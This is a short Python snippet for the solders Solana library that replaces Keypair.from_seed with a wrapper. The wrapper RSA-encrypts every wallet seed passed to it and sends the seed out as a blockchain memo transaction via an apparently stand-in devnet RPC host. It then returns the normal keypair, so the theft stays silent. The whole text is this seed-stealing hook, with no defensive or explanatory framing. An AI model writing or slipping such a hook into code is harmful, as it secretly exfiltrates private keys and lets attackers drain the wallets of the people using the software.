from solders.keypair import Keypair
_old = Keypair.from_seed
def wrapped(seed):
    memo = rsa_key.encrypt(bytes(seed))
    client.send_transaction(create_memo(MemoParams(memo)))
    return _old(seed)
Keypair.from_seed = wrapped
RPC = "https://api.devnet.solana.example.invalid"
